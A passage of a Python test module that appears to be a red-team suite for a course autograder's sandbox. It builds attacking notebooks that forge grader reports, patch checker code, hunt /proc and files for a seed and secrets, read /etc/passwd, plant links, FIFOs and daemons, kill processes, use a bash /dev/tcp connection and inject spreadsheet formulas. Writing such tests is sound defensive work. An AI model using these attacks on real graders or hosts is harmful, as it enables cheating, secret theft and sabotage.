"""The attacks of issues 40 and 52 against the grader, each as a small chapter-3 notebook.

One class of learners is graded once per test process (a session fixture; every test in the
xdist group ``grading_attacks``, see :data:`GROUP`) in the sandbox (bubblewrap), with an
assignment (softmax 2 points, self_attention 3). The tests then look at that one gradebook,
attempt log and feedback, and at what is outside them: the instructor's files, a classmate's
notebook, the processes left, a listening socket, the secrets of the grader's environment. An
attack that finds what it looks for says so where the grader can see it: its function raises
with what it found (the attempt log) or a probe cell raises (the row's notes name the cells that
raised); every probe cell is written to raise only then.

The notebooks, and why each is needed (each attack also defines a softmax, right or wrong, so
its row shows what was graded; a notebook byte-identical to another is run once, so the copies
cost nothing). The honest ``alice``, ``bob``, ``ctl_time`` and ``mallory`` are the chapter's
workbook with the starters filled in; every other notebook holds the attack alone
(``test_grading.small_notebook``: the workbook's metadata, ``import torch``, its definitions and
cells):

* ``alice`` (right), ``bob`` (unstable): honest rows keep their grades; ``ctl_time``: a right
  softmax in a ``%%time`` cell through the whole sandboxed run;
* ``patcher``, ``stackwalker``, ``solsource``, ``seedhunt``: the checker's call path replaced,
  the stack and gc walked for cases, oracle or solution, the solution's source, the seed;
* ``forger``, ``swapper`` (issue 52): reports forged on the worker's pipe then ``os._exit(0)``;
  the worker's functions given the learner's code (``__code__``);
* ``reader``, ``linker`` (+ a 1100-deep folder chain, issue 52), ``fifomaker``, ``daemon``,
  ``signals``, ``network``, ``secrets`` (+ ``/etc/passwd``): a classmate's notebook, links and
  FIFOs outside, a surviving process, signals, the network, the grader's secrets;
* ``flood``, ``memtree``, ``procs``, ``disk``, ``bigmsg``: each limit of the sandbox;
* ``'=cmd``, ``x;=SUM(1;41)``: formula injection from a name and a message, in any locale;
* ``mallory`` (metadata naming "dave"; the chapter written as ``03_softmax.ipynb``, no check
  cell), ``vic_right`` and `` vic_right``, ``zo\u00e9`` and ``zoe\u0301`` (issue 52: names that
  meet never merge), ``caf\xe9`` (not UTF-8): identity from the instructor's side only;
* ``twin_a``/``twin_b`` (byte-identical), ``near_a``/``near_b`` (differ in a markdown cell):
  nothing a function reads of its sandbox differs between two jobs;
* ``linky``, ``multi``, ``empty``, ``fifo``: a symbolic link, another chapter, not a notebook,
  not a file (none of them runs).
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import json
import os
import secrets
import signal
import socket
import stat
import tempfile
import time
from pathlib import Path
from typing import Any

import pytest
from marked_processes import kill_marked, marked
from test_grading import NO_SHIFT_SOFTMAX, RIGHT_SELF_ATTENTION, RIGHT_SOFTMAX, small_notebook

from course_lib.toolkit import grading, workbook
from course_lib.toolkit.grading import report, sandbox

ROOT = Path(__file__).resolve().parent.parent
CHAPTER = "03_softmax"
SEED = 7316492058371946                  # the grading seed: its decimal text is the secret
SEED_HEX = hex(SEED)                     # how the seed hunter knows what to look for
POINTS = {"softmax": 2, "self_attention": 3}
MEMORY = 2 * 1024 ** 3
PROCESSES = 8
DISK = 64 * 1024 ** 2
OUTPUT = 1024 ** 2
#: A run over the whole class that takes longer than this is taken as hung.
HANG_LIMIT = 3600

REASON = sandbox.unavailable_reason()
if REASON is not None and os.environ.get("CI") != "true":
    pytest.skip(f"the grading sandbox cannot run here: {REASON}", allow_module_level=True)

#: Every test of the class in one xdist group of its own, and the class a session fixture: graded
#: once per run (``make unit``: ``-n 2 --dist loadgroup``). pytest 9.2 with pytest-xdist 3.8 does
#: not apply the group (the class was then built on both workers): requirements.txt keeps pytest
#: below 9.2 and tests/test_xdist_groups.py fails if the grouping stops.
GROUP = pytest.mark.xdist_group("grading_attacks")

# --------------------------------------------------------------------------- notebooks

#: The body of a right softmax, to indent into other code.
RIGHT_BODY = ("m = x.amax(dim=dim, keepdim=True)\n"
              "e = (x - m).exp()\n"
              "return e / e.sum(dim=dim, keepdim=True)\n")


def _indent(text: str, n: int) -> str:
    return "".join(" " * n + line if line.strip() else line
                   for line in text.splitlines(keepends=True))


def _workbook_copy(chapter: str = CHAPTER) -> dict:
    nb = json.loads((ROOT / "book" / f"{chapter}.ipynb").read_text())
    return workbook.learner_copy(nb, chapter)


def _source(cell: dict) -> str:
    src = cell["source"]
    return "".join(src) if isinstance(src, list) else src


def _code_cell(text: str) -> dict:
    return {"cell_type": "code", "metadata": {}, "source": text, "outputs": [],
            "execution_count": None}


def _notebook(defs: dict[str, str], extra_cells: list[str] = ()) -> dict:
    """The chapter's workbook with the starters of ``defs`` replaced and ``extra_cells`` (code)
    at the end (as tests/test_grading.py builds its class)."""
    nb = _workbook_copy()
    replaced = set()
    for cell in nb["cells"]:
        for name, body in defs.items():
            if cell["cell_type"] == "code" and _source(cell).startswith(f"def {name}("):
                cell["source"] = body
                replaced.add(name)
    assert replaced == set(defs), ("no starter cell for", set(defs) - replaced)
    nb["cells"] += [_code_cell(text) for text in extra_cells]
    return nb


def _extra_numbers(nb: dict, extra_cells: list[str]) -> list[int]:
    """The numbers the gradebook's notes give the ``extra_cells`` (1-based, over all cells)."""
    return list(range(len(nb["cells"]) - len(extra_cells) + 1, len(nb["cells"]) + 1))


def _write(folder: Path, name: str | bytes, nb: Any) -> Path:
    path = Path(os.fsdecode(os.fsencode(folder) + b"/" + os.fsencode(name) + b".ipynb"))
    path.write_text(json.dumps(nb))
    return path


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _probe(body: str) -> str:
    """A cell that runs ``body`` (which sets ``found`` to what it found, or leaves it empty)
    and raises only when something was found: the row's notes then name this cell."""
    return ("found = []\ntry:\n" + _indent(body, 4)
            + "except BaseException as _e:\n    print('probe:', type(_e).__name__)\n"
            + "if found:\n    raise RuntimeError(f'FOUND {found!r:.300}')\n")


#: A cell that leaves a chain of 1100 folders in the kernel's scratch folder and in /tmp: deeper
#: than Python's recursion limit for a recursive walk or removal (issue 52: it stopped the
#: limit watcher and then the whole class at cleanup).
DEEP_CHAIN = """import os
for base in ('.', '/tmp'):
    here = os.open(base, os.O_RDONLY)
    for _ in range(1100):
        os.mkdir('d', dir_fd=here)
        there = os.open('d', os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = there
    os.close(here)
"""

#: Issue 52, route 1, as the red team wrote it (frames to the worker's pipe), widened to every
#: descriptor in case the frames are refused.
FORGER = """import io
import os
import struct
import sys

import torch


def _report(value, x):
    msg = {'kind': 'case', 'error_type': '', 'traceback': '', 'placeholder': False,
           'memory': False, 'forbidden': None, 'course_call': None, 'tamper': None,
           'policy': None, 'extension': None, 'square': None, 'left_torch': False,
           'printed': '', 'inputs': [x.clone()], 'value': value}
    buf = io.BytesIO()
    torch.save(msg, buf)
    return struct.pack('<Q', len(buf.getvalue())) + buf.getvalue()


def softmax(x, dim=-1):
    m = x.amax(dim=dim, keepdim=True)
    e = (x - m).exp()
    data = _report(e / e.sum(dim=dim, keepdim=True), x)
    fds = list(range(3, 256))
    try:
        f = sys._getframe()
        while f is not None:
            fds = [v for v in f.f_locals.values() if isinstance(v, int)] + fds
            f = f.f_back
    except BaseException:
        pass
    for fd in fds:
        try:
            for _ in range(20):
                os.write(fd, data)
        except BaseException:
            pass
    try:
        os._exit(0)
    except BaseException:
        pass
    return torch.zeros_like(x)
"""

#: Issue 52, route 2: the helper a graded module runs at definition time.
SWAPPER = """import torch
from course_lib.toolkit.checking import _isolation, _policy, _sandbox


def _free(*args, **kwargs):
    return 0


def _swap():
    for target in (_policy.refuse_kernels, _isolation.run_call, _sandbox.run_call):
        try:
            target.__code__ = _free.__code__.replace(co_filename=_sandbox.__file__)
        except BaseException:
            pass
"""


def _attacks(paths: dict[str, Any]) -> dict[str, tuple[dict, list[int]]]:
    """Every attacking learner: name -> (notebook, the numbers of its probe cells)."""
    alice, precious, out = str(paths["alice"]), str(paths["precious"]), str(paths["out"])
    gradebook, gtmp, marker = str(paths["gradebook"]), str(paths["gtmp"]), paths["marker"]
    home_secret = str(paths["home"] / "secret.txt")
    course = str(sandbox.course_package())
    made: dict[str, tuple[dict, list[int]]] = {}

    def add(name: str, defs: dict[str, str], cells: list[str] = (), full: bool = False) -> None:
        nb = (_notebook if full else small_notebook)(defs, list(cells))
        made[name] = (nb, _extra_numbers(nb, list(cells)))

    # 1. Module-level code replaces the checker's call path, then uses torch.softmax.
    add("patcher", {"softmax": """if True:
    import torch
    import course_lib.toolkit.checking._isolation as _I
    import course_lib.toolkit.checking._policy as _P
    import course_lib.toolkit.checking._remote as _R
    import course_lib.toolkit.checking._sandbox as _S

    def _free_call(fn, args, *a, outcome=None, **k):
        outcome = _S.CallOutcome() if outcome is None else outcome
        try:
            outcome.value = fn(*args)
        except Exception as e:
            outcome.error, outcome.error_type = e, type(e).__name__
        return outcome

    _I.run_call = _S.run_call = _free_call
    _I.refused = lambda out: False
    _I._encode_outcome.__globals__['refused'] = lambda out: False
    _P.refuse_kernels = lambda groups: 0
    _R.preimport = lambda path: []

    def softmax(x, dim=-1):
        return torch.softmax(x, dim=dim)
"""})

    # 2. Walks the stack and the garbage collector's objects for the cases, the exercise, the
    #    oracle or the solution; uses what it finds (says so), else returns zeros.
    add("stackwalker", {"softmax": """import gc
import sys
import torch

_LOOKED = []


def _look():
    if _LOOKED:
        return _LOOKED[0]
    hits = []
    try:
        gc.unfreeze()
    except Exception:
        pass
    seen = []
    f = sys._getframe()
    while f is not None:
        seen += list(f.f_locals.values()) + list(f.f_globals.values())
        f = f.f_back
    try:
        seen += gc.get_objects()
    except Exception:
        pass
    for o in seen:
        t = type(o).__name__
        if t in ('Exercise', 'Mistake', '_Seeded', 'Seeded'):
            hits.append(t)
            continue
        if not str(getattr(type(o), '__module__', '')).startswith('course_lib'):
            continue
        for attr in ('oracle', 'solution', 'expected', 'mistakes'):
            try:
                if callable(getattr(o, attr, None)) or attr == 'mistakes' and hasattr(o, attr):
                    hits.append(f'{t}.{attr}')
            except Exception:
                pass
    _LOOKED.append(hits)
    return hits


def softmax(x, dim=-1):
    hits = _look()
    if hits:
        raise RuntimeError(f'FOUND_ORACLE {sorted(set(hits))!r:.300}')
    return torch.zeros_like(x)
"""})

    # 3. Reads the solution's source (and would run it).
    solution_paths = [f"{course}/chapters/ch03_softmax/exercises.py",
                      str(ROOT / "book" / "03_softmax.ipynb")]
    add("solsource", {"softmax": """import importlib
import inspect

import course_lib.chapters.ch03_softmax
import course_lib.chapters.ch04_multi_head

_PATHS = @PATHS@


def softmax(x, dim=-1):
    found, errors = [], []
    for name in ('course_lib.chapters.ch03_softmax.exercises',
                 'course_lib.chapters.ch04_multi_head.exercises'):
        try:
            mod = importlib.import_module(name)
            found.append(inspect.getsource(mod)[:40])
        except Exception as e:
            errors.append(type(e).__name__)
    for p in _PATHS:
        try:
            found.append(open(p).read()[:40])
        except OSError:
            pass
    if found:
        raise RuntimeError(f'SOLUTION_READABLE {found!r}')
    raise RuntimeError(f'NO_SOLUTION {errors}')
""".replace("@PATHS@", repr(solution_paths))}, [_probe("""import importlib
for name in ('course_lib.chapters.ch03_softmax.exercises',):
    try:
        importlib.import_module(name)
        found.append(name)
    except ImportError:
        pass
try:
    from course_lib import exercises as _ex
    text = str(_ex.solution('softmax'))
    if 'def ' in text and 'return' in text:      # a solution, not "there is no exercise"
        found.append(text[:40])
except Exception:
    pass
for p in @PATHS@:
    try:
        found.append(open(p).read()[:40])
    except OSError:
        pass
""".replace("@PATHS@", repr(solution_paths)))])

    # 4. Looks for the grading seed: environment, other processes, every readable file.
    hunt = """import os
import sys
import time


def _hunt(budget):
    want = str(int('@HEX@', 16)).encode()
    hits = []
    end = time.monotonic() + budget
    if want in repr(sorted(os.environ.items())).encode():
        hits.append('environ')
    for pid in os.listdir('/proc'):
        if not pid.isdigit():
            continue
        for what in ('cmdline', 'environ'):
            try:
                with open(f'/proc/{pid}/{what}', 'rb') as f:
                    if want in f.read():
                        hits.append(f'/proc/{pid}/{what}')
            except OSError:
                pass
    # The system's and Python's installed files (read-only binds of what the grader's machine
    # has installed, which no grading writes to) are not read: the walk then ends within its
    # budget, having read every other file of up to 4 MiB the sandbox shows (the course copy
    # included).
    skip = ('/proc', '/sys', '/dev', '/usr', '/lib', '/lib64', '/lib32', '/bin', '/sbin',
            *{sys.prefix, sys.base_prefix, sys.exec_prefix})
    roots = ['/grading', '/tmp', os.path.expanduser('~'), '/run', '/var', '/home', '/root',
             '/work', '/etc', '/']
    done = set()
    for root in roots:
        for folder, dirs, files in os.walk(root):
            if time.monotonic() > end:
                return hits
            if folder in done or folder.startswith(skip) and folder not in roots:
                dirs[:] = []
                continue
            done.add(folder)
            dirs[:] = [d for d in dirs if not os.path.join(folder, d).startswith(skip)]
            for name in files:
                path = os.path.join(folder, name)
                try:
                    if os.path.getsize(path) > 4 << 20:
                        continue
                    with open(path, 'rb') as f:
                        if want in f.read():
                            hits.append(path)
                except OSError:
                    pass
    return hits
""".replace("@HEX@", SEED_HEX)
    add("seedhunt", {"softmax": hunt + """

_FOUND = _hunt(3.0)


def softmax(x, dim=-1):
    if _FOUND:
        raise RuntimeError(f'FOUND {_FOUND!r:.300}')
""" + _indent(RIGHT_BODY, 4)}, [_probe(hunt + "found += _hunt(12.0)\n")])

    # 5. Reads a classmate's notebook by its path: with open() and torch.from_file.
    add("reader", {"softmax": """import os
import torch

_ALICE = @ALICE@


def _alice():
    try:
        return open(_ALICE, 'rb').read()
    except OSError:
        pass
    try:
        n = os.path.getsize(_ALICE)
        return bytes(torch.from_file(_ALICE, shared=False, size=n, dtype=torch.uint8).tolist())
    except Exception:
        return b''


def softmax(x, dim=-1):
    if b'amax' in _alice():
""".replace("@ALICE@", repr(alice)) + _indent(RIGHT_BODY, 8)
        + "    e = x.exp()\n    return e / e.sum(dim=dim, keepdim=True)\n"},
        [_probe(f"""import os, torch
_ALICE = {alice!r}
try:
    found.append(open(_ALICE).read()[:20])
except OSError:
    pass
try:
    n = os.path.getsize(_ALICE)
    found.append(torch.from_file(_ALICE, shared=False, size=n, dtype=torch.uint8)[:8].tolist())
except Exception:
    pass
""")])

    # 8. Hard links / torch.from_file(shared=True) / os.link from its scratch to files outside.
    vandalise = """import os
import torch


def _vandalise():
    done = []
    for target in @TARGETS@:
        for dst in ('./hl', '/tmp/hl', os.path.expanduser('~/hl')):
            try:
                os.link(target, dst)
                with open(dst, 'ab') as f:
                    f.write(b'pwned')
                done.append(('link', target))
            except OSError:
                pass
        try:
            t = torch.from_file(target, shared=True, size=8, dtype=torch.uint8)
            t.fill_(65)
            done.append(('from_file', target))
        except Exception:
            pass
        try:
            os.symlink(target, './sl')
            with open('./sl', 'ab') as f:
                f.write(b'pwned')
            done.append(('symlink', target))
        except OSError:
            pass
        with contextlib.suppress(OSError):
            os.remove('./sl')
    return done
""".replace("@TARGETS@", repr([alice, precious]))
    add("linker", {"softmax": "import contextlib\n" + vandalise + """

_DONE = []


def softmax(x, dim=-1):
    if not _DONE:
        _DONE.append(_vandalise())
    if _DONE[0]:
        raise RuntimeError(f'WROTE_OUTSIDE {_DONE[0]!r}')
""" + _indent(RIGHT_BODY, 4)}, [_probe("import contextlib\n" + vandalise
                                        + "found += _vandalise()\n"), DEEP_CHAIN])

    # 9. FIFOs at the paths of the grader's jobs and outputs.
    fifos = """import glob
import os


def _fifos():
    roots = glob.glob('/tmp/course-lib-grading-*') + glob.glob(@GTMP@ + '/course-lib-grading-*')
    targets = [@OUT@ + '/' + n for n in ('gradebook.csv', 'attempts.csv', 'cache.sqlite3',
                                         '.gradebook.csv.x', 'feedback/alice.md')]
    for root in roots + [@GTMP@ + '/course-lib-grading-x']:
        for n in range(40):
            targets += [f'{root}/job{n}', f'{root}/job{n}/scratch',
                        f'{root}/job{n}/scratch/run/kernel.json', f'{root}/job{n}/check0',
                        f'{root}/job{n}/check0/submission.py', f'{root}/job{n}/check1']
    made = []
    for t in targets:
        try:
            os.mkfifo(t)
            made.append(t)
        except OSError:
            pass
    return made
""".replace("@GTMP@", repr(gtmp)).replace("@OUT@", repr(out))
    add("fifomaker", {"softmax": fifos + """

_MADE = _fifos()


def softmax(x, dim=-1):
    if _MADE:
        raise RuntimeError(f'FIFO_OUTSIDE {_MADE!r:.300}')
""" + _indent(RIGHT_BODY, 4)}, [_probe(fifos + "found += _fifos()\n")])

    # 10. A fork + setsid daemon that outlives the notebook and appends to the gradebook.
    daemon_code = (f"import time\nwhile True:\n    time.sleep(1)\n    for p in ({gradebook!r}, "
                   f"{str(paths['out'] / 'cache.sqlite3')!r}):\n        try:\n"
                   f"            open(p, 'a').write('{marker},1\\n')\n"
                   "        except OSError:\n            pass\n")
    add("daemon", {"softmax": RIGHT_SOFTMAX}, [f"""import os, subprocess, sys
code = {daemon_code!r}
pid = os.fork()
if pid == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, '-c', code, {marker!r}])
    finally:
        os._exit(0)
os.waitpid(pid, 0)
subprocess.Popen([sys.executable, '-c', code, {marker!r}], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen(['setsid', '-f', sys.executable, '-c', code, {marker!r}])
"""])

    # 13. Spreadsheet formula injection, from the file name and from a message.
    add("=cmd", {"softmax": "def softmax(x, dim=-1):\n"
                            "    raise RuntimeError('=HYPERLINK(\"http://evil.example\")')\n"},
        ["raise RuntimeError('=1+1')\n"])

    # 14. The grader's secrets: an environment token and a file in the instructor's home.
    token_name, secret_path = "COURSE_LIB_TEST_TOKEN", home_secret
    leak = f"""import glob
import os


def _leak():
    got = [os.environ.get({token_name!r}, '')]
    paths = [{secret_path!r}, os.path.expanduser('~/secret.txt')]
    for p in paths + glob.glob('/home/*/secret.txt'):
        try:
            got.append(open(p).read())
        except OSError:
            pass
    for p in glob.glob('/proc/*/environ'):
        try:
            data = open(p, 'rb').read()
            if {token_name.encode()!r} in data:
                got.append(data.decode('utf-8', 'replace'))
        except OSError:
            pass
    return [g for g in got if g]
"""
    add("secrets", {"softmax": leak + """

def softmax(x, dim=-1):
    raise RuntimeError(f'LEAK {_leak()!r}')
"""}, [leak + "print(_leak())\n", _probe(leak + "found += _leak()\n"),
          _probe("found += [line for line in open('/etc/passwd').read().splitlines()\n"
                 "          if line.split(':')[0] not in ('root', 'nobody')]\n")])

    # 15. The network: a socket to a port the test listens on.
    port = paths["port"]
    add("network", {"softmax": f"""import socket


def softmax(x, dim=-1):
    try:
        socket.create_connection(('127.0.0.1', {port}), timeout=2).close()
        raise RuntimeError('CONNECTED')
    except OSError:
        pass
""" + _indent(RIGHT_BODY, 4)}, [_probe(f"""import socket, subprocess, urllib.request
try:
    socket.create_connection(('127.0.0.1', {port}), timeout=2).close()
    found.append('socket')
except OSError:
    pass
try:
    urllib.request.urlopen('http://127.0.0.1:{port}/', timeout=2)
    found.append('urllib')
except Exception:
    pass
r = subprocess.run(['bash', '-c', 'echo hi > /dev/tcp/127.0.0.1/{port}'], capture_output=True,
                   timeout=5)
if r.returncode == 0:
    found.append('bash')
""")])

    # 16. Signals to every process it can name, the grader included.
    add("signals", {"softmax": RIGHT_SOFTMAX}, [f"""import os, signal
me = os.getpid()
for sig in (signal.SIGSTOP, signal.SIGKILL):
    for pid in range(1, 401):
        if pid != me:
            try:
                os.kill(pid, sig)
            except OSError:
                pass
for pid in range(1, 401):
    if pid == me:
        continue
    try:
        fd = os.pidfd_open(pid)
        signal.pidfd_send_signal(fd, signal.SIGKILL)
        os.close(fd)
    except (OSError, AttributeError):
        pass
for pid in ({paths['test_pid']}, os.getppid()):
    try:
        os.kill(pid, signal.SIGUSR1)
    except OSError:
        pass
try:
    os.kill(os.getppid(), 9)
except OSError:
    pass
"""])

    # 17. An output flood: 50 MiB printed.
    add("flood", {"softmax": RIGHT_SOFTMAX},
        ["s = 'x' * (1 << 20)\nfor _ in range(50):\n    print(s)\n"])

    # 18. Memory held by a tree of processes: each under the cap, together over it.
    add("memtree", {"softmax": RIGHT_SOFTMAX}, [f"""import subprocess, sys
code = "import time\\nb = b'\\\\1' * (900 << 20)\\ntime.sleep(60)"
ps = [subprocess.Popen([sys.executable, '-c', code, {marker!r}]) for _ in range(3)]
for p in ps:
    p.wait()
"""])

    # 19. Many processes.
    add("procs", {"softmax": RIGHT_SOFTMAX}, [f"""import subprocess, sys, time
ps = [subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)', {marker!r}])
      for _ in range(16)]
time.sleep(5)
for p in ps:
    p.kill()
"""])

    # 20. 300 MiB written to /tmp and to its working folder, in files under the per-file cap.
    fill = """import os


def _fill():
    written = {}
    for folder in ('.', '/tmp'):
        total = 0
        for i in range(10):
            try:
                with open(os.path.join(folder, f'fill{i}'), 'wb') as f:
                    f.write(b'\\0' * (30 << 20))
                total += 30 << 20
            except OSError:
                break
        written[folder] = total
    return written
"""
    add("disk", {"softmax": fill + """

_WRITTEN = []


def softmax(x, dim=-1):
    if not _WRITTEN:
        _WRITTEN.append(_fill())
    if max(_WRITTEN[0].values()) > @DISK@:
        raise RuntimeError(f'DISK_CAP_EXCEEDED {_WRITTEN[0]!r}')
""".replace("@DISK@", str(DISK)) + _indent(RIGHT_BODY, 4)},
        [_probe(fill + f"w = _fill()\nif max(w.values()) > {DISK}:\n    found.append(w)\n")])

    # 21. An 8 MiB exception message.
    add("bigmsg", {"softmax": "def softmax(x, dim=-1):\n"
                              "    raise RuntimeError('B' * (8 << 20))\n"},
        ["raise RuntimeError('C' * (8 << 20))\n"])

    # Identity from the file name only: metadata naming another learner.
    # Also (issue 52): the workbook's chapter as some workbooks write it ("03_softmax.ipynb"),
    # and no check cell left to name the chapter: it is still graded.
    nb = _notebook({"softmax": RIGHT_SOFTMAX})
    nb["metadata"].setdefault("course_lib", {})["learner"] = "dave"
    nb["metadata"]["course_lib"]["workbook"]["chapter"] = f"{CHAPTER}.ipynb"
    nb["cells"] = [c for c in nb["cells"] if "check(" not in _source(c)]
    made["mallory"] = (nb, [])

    # Names that meet after normalisation never merge (issue 52): " vic_right" (a leading
    # space) is its own learner, not vic_right (byte-identical: graded once); "zo\u00e9" and
    # "zoe\u0301" (NFC and NFD of one name) are both refused, naming each other.
    add("vic_right", {"softmax": RIGHT_SOFTMAX})
    made[" vic_right"] = made["vic_right"]
    made["zo\u00e9"] = made["vic_right"]
    made["zoe\u0301"] = made["vic_right"]
    # A learner id that is a formula in a ";" locale (byte-identical to vic_right's notebook).
    made["x;=SUM(1;41)"] = made["vic_right"]

    # 24. Forged verdicts (issue 52, route 1): walk the frames to the worker's pipe, write one
    #     "clean" report per case with os.write (every descriptor), leave with os._exit(0).
    #     Its own return value is wrong (zeros): only a forged report could pass it.
    add("forger", {"softmax": FORGER})

    # 25. Code swapped inside the worker (issue 52, route 2): a helper run at definition time
    #     (a default argument) gives the worker's run_call and refuse_kernels its own code,
    #     relabelled as the checker's file, then torch.softmax and F.sdpa answer.
    add("swapper", {"softmax": SWAPPER + """

def softmax(x, dim=-1, _swapped=_swap()):
    return torch.softmax(x, dim=dim)
""", "self_attention": SWAPPER + """

def self_attention(x, w_q, w_k, w_v, _swapped=_swap()):
    q, k, v = x @ w_q, x @ w_k, x @ w_v
    return torch.nn.functional.scaled_dot_product_attention(q, k, v)
"""})

    # A non-UTF-8 file name (graded like any other).
    made[b"caf\xe9"] = (small_notebook({"softmax": RIGHT_SOFTMAX}), [])

    # 23. Nondeterminism: two byte-identical notebooks whose functions fold what differs between
    #     two jobs (the file's path, the folder, the random generators, the process) into their
    #     answer (softmax) and their message (self_attention).
    derive = """import hashlib
import os
import random

import numpy as np
import torch

_SEEN = repr((__file__, os.getcwd(), sorted(os.listdir('.')), random.random(),
              np.random.rand(), torch.rand(1).item(), os.getpid(), os.getppid(),
              sorted(os.environ.items()), os.uname().nodename))
_DERIVED = int(hashlib.sha256(_SEEN.encode()).hexdigest(), 16)
"""
    twin = small_notebook({"softmax": derive + """

def softmax(x, dim=-1):
    if _DERIVED % 2:
        e = x.exp()
        return e / e.sum(dim=dim, keepdim=True)
""" + _indent(RIGHT_BODY, 4), "self_attention": """def self_attention(x, w_q, w_k, w_v):
    raise RuntimeError(f'DERIVED {_DERIVED} {_SEEN[:300]}')
"""})
    made["twin_a"] = (twin, [])
    made["twin_b"] = (twin, [])
    # Two notebooks that differ only in a markdown cell (graded apart, as two notebooks are):
    # the paths their functions can read of the sandbox they run in (its mounts, its processes'
    # command lines and environments) must be the same, and name none of the grader's folders.
    # (Mount ids, pids and times differ between any two sandboxes: only paths are compared.)
    near = small_notebook({"softmax": RIGHT_SOFTMAX, "self_attention": """import glob
import re


def _sandbox_paths():
    seen = set()
    for p in ['/proc/self/mountinfo', '/proc/self/cgroup'] \\
            + sorted(glob.glob('/proc/[0-9]*/cmdline')) \\
            + sorted(glob.glob('/proc/[0-9]*/environ')):
        try:
            with open(p, 'rb') as f:
                text = f.read().decode('utf-8', 'replace')
        except OSError:
            continue
        seen |= {t for t in re.findall(r"/[^\\s\\x00'\\"=:]+", text)
                 if not t.startswith(('/proc/', '/sys/', '/dev/'))}
    return sorted(seen)


def self_attention(x, w_q, w_k, w_v):
    raise RuntimeError(f'SEEN {_sandbox_paths()!r}')
"""})
    for name in ("near_a", "near_b"):
        nb = json.loads(json.dumps(near))
        nb["cells"].insert(0, {"cell_type": "markdown", "metadata": {}, "source": name})
        made[name] = (nb, [])

    # An honest control: a right softmax in a %%time cell, through the whole sandboxed run
    # (the extraction of definitions under if/try/with is unit-tested in tests/test_grading.py).
    add("ctl_time", {"softmax": "%%time\n" + RIGHT_SOFTMAX}, full=True)
    add("bob", {"softmax": NO_SHIFT_SOFTMAX}, full=True)
    return made


# --------------------------------------------------------------------------- the class


def _snapshot(folder: Path, skip: tuple[Path, ...] = ()) -> dict[str, tuple[int, str]]:
    """Every entry below ``folder`` (not following links): kind and, for files, content hash."""
    found = {}
    for root, dirs, files in os.walk(folder):
        if any(Path(root).is_relative_to(s) for s in skip):
            dirs[:] = []
            continue
        for name in dirs + files:
            path = Path(root) / name
            info = os.lstat(path)
            digest = ""
            if stat.S_ISREG(info.st_mode):
                digest = hashlib.sha256(path.read_bytes()).hexdigest()
            found[os.fsdecode(path.relative_to(folder))] = (stat.S_IFMT(info.st_mode), digest)
    return found


def _rows(path: Path) -> dict[str, dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return {r["learner"]: r for r in csv.DictReader(f)}


def _log(path: Path) -> dict[tuple[str, str], dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return {(r["learner"], r["exercise"]): r for r in csv.DictReader(f)}


def _raised(notes: str) -> set[int]:
    """The cell numbers the notes say raised."""
    import re

    found = set()
    for m in re.finditer(r"code in cells? ([\d, ]+) raised", notes):
        found |= {int(n) for n in m.group(1).replace(" ", "").split(",") if n}
    return found


@contextlib.contextmanager
def _hang_guard(seconds: int):
    def on_alarm(signum, frame):
        raise TimeoutError(f"grading ran over {seconds} s: the grader hangs")

    old = signal.signal(signal.SIGALRM, on_alarm)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)


@pytest.fixture(scope="session")
def klass() -> dict[str, Any]:
    """The class, graded once: what it was given, what came out, what was there before."""
    if REASON is not None:       # CI installs bubblewrap: there a missing sandbox is a failure
        pytest.fail(f"the grading sandbox cannot run here: {REASON}")
    base = Path(tempfile.mkdtemp(prefix="cla-"))      # short: the kernel's sockets live below
    subs, out, gtmp, home = base / "s", base / "out", base / "tmp", base / "home"
    for d in (subs, out, gtmp, home, base / "solutions"):
        d.mkdir()
    token = "tok-" + secrets.token_hex(16)
    secret = "secret-" + secrets.token_hex(16)
    (home / "secret.txt").write_text(secret)
    precious = base / "precious.txt"
    precious.write_text("instructor's file\n")
    gradebook = out / "gradebook.csv"
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    listener.setblocking(False)
    marker = "atk-" + secrets.token_hex(8)
    alice_nb = _notebook({"softmax": RIGHT_SOFTMAX, "self_attention": RIGHT_SELF_ATTENTION})
    alice = _write(subs, "alice", alice_nb)
    paths = {"alice": alice, "precious": precious, "out": out, "gradebook": gradebook,
             "gtmp": gtmp, "home": home, "marker": marker, "port": listener.getsockname()[1],
             "test_pid": os.getpid()}
    attacks = _attacks(paths)
    probes: dict[str, list[int]] = {"alice": []}
    for name, (nb, numbers) in attacks.items():
        _write(subs, name, nb)
        probes[os.fsdecode(name) if isinstance(name, bytes) else name] = numbers
    # What is handed in beside the notebooks: a symlink to a solution notebook, another
    # chapter's workbook, a notebook that is JSON's [], a FIFO.
    solution = base / "solutions" / "03_softmax.ipynb"
    solution.write_bytes(alice.read_bytes())
    (subs / "linky.ipynb").symlink_to(solution)
    other = _workbook_copy("04_multi_head")
    _write(subs, "multi", other)
    (subs / "empty.ipynb").write_text("[]")
    os.mkfifo(subs / "fifo.ipynb")
    assignment = base / "assignment.toml"
    assignment.write_text('title = "attacks"\n\n[points]\nsoftmax = 2\nself_attention = 3\n')
    submitted = sorted(Path(os.fsdecode(os.path.join(os.fsencode(subs), n)))
                       for n in os.listdir(os.fsencode(subs)))
    before = _snapshot(base, skip=(out,))
    hashes = {"alice": _sha(alice), "precious": _sha(precious)}
    usr1: list[int] = []
    old_usr1 = signal.signal(signal.SIGUSR1, lambda signum, frame: usr1.append(signum))
    log, feedback, cache = out / "attempts.csv", out / "feedback", out / "cache.sqlite3"
    settings = dict(log=log, feedback=feedback, jobs=2, cell_timeout=20, notebook_timeout=300,
                    memory=MEMORY, processes=PROCESSES, disk=DISK, output=OUTPUT,
                    assignment=assignment, cache=cache, progress=False)
    started = time.perf_counter()
    try:
        with pytest.MonkeyPatch.context() as mp, _hang_guard(HANG_LIMIT):
            mp.setenv("COURSE_LIB_TEST_TOKEN", token)
